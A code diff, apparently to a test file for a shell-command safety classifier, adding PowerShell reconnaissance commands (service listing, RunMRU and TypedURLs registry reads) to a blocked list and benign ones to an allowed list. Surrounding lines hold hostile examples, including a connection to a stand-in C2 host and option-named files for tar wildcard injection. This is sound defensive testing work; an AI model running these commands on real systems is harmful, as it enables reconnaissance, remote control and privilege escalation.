@@ -78,6 +78,10 @@ BLOCKED = [
     ("posix", "kubeletctl scan rce --cidr 10.0.0.0/24", "network.remote-service"),
     ("posix", "./enumerate-iam.py --access-key AKIAX --secret-key x", "network"),
     ("posix", "./agent -connect attacker_c2_server.com:11601", "network.locator"),  # `_` in a host label
+    ("powershell", "Get-CimInstance -ClassName Win32_Service -Property Name, PathName, StartMode", "env"),
+    ("powershell", 'gwmi -Query "select * from Win32_Service"', "env.machine-discovery"),
+    ("powershell", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", "env"),
+    ("powershell", "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Internet Explorer\\TypedURLs'", "env"),
     # files named like options: a later `tar cf a.tar *` reads them as its options (wildcard injection)
     ("posix", 'echo "" >> "--checkpoint=1"', "unverifiable.option-named-file"),
     ("posix", "echo '' >> '--checkpoint-action=exec=sh root.sh'", "unverifiable.option-named-file"),
@@ -109,6 +113,9 @@ ALLOWED = [
     ("posix", "echo x >> a/b-c.txt"),
     ("posix", "touch -c notes.txt"),
     ("posix", "pytest 2>&1 | tee -"),
+    ("powershell", "Get-Service"),
+    ("powershell", "Get-CimInstance Win32_OperatingSystem"),
+    ("powershell", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"),
     ("posix", "python my_mod.py:12"),
     ("posix", "pytest tests/test_x.py::test_a"),
 ]
